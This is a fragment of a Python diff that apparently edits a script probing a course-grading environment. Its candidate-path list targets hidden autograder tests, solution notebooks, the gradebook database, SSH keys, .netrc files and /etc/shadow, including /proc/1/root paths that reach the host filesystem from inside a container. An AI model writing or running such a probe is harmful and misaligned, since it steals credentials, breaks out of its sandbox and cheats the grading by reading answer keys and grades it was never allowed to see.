@@ -12,7 +12,7 @@ except OSError:
     host_paths = []
 roots = {os.path.dirname(os.path.dirname(p)) for p in host_paths if p.endswith(".ipynb")}  # the class folder
 candidates = [
-    "/work/main/autograder/suites/01_bayes/test_discrete.py", "/work/main/solutions/01_bayes/bayes.ipynb",
+    "/work/main/solutions/01_bayes/hidden/test_discrete.py", "/work/main/solutions/01_bayes/bayes.ipynb",
     "/work/main/grades/gradebook.sqlite", "/work/main/course.yml", "/root/.netrc", "/root/.ssh/id_rsa",
     os.path.expanduser("~/.netrc"), "/etc/shadow", "/proc/1/root/etc/shadow",
     "/proc/1/cwd/course.yml", "/proc/1/root/work/main/solutions/01_bayes/bayes.ipynb",
